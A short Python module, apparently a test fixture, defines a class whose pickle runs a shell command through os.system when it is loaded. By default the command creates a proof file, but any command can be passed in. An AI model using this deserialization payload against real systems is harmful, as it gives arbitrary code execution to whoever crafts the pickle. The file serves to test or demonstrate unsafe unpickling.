"""An object whose pickle runs a shell command when it is read."""

import os
from pathlib import Path


class Malicious:
    """Leaves the file `proof` where it was read as a program."""

    def __init__(self, proof: Path, command: str = "") -> None:
        self.command = command or f"touch {proof}"

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self.command,)
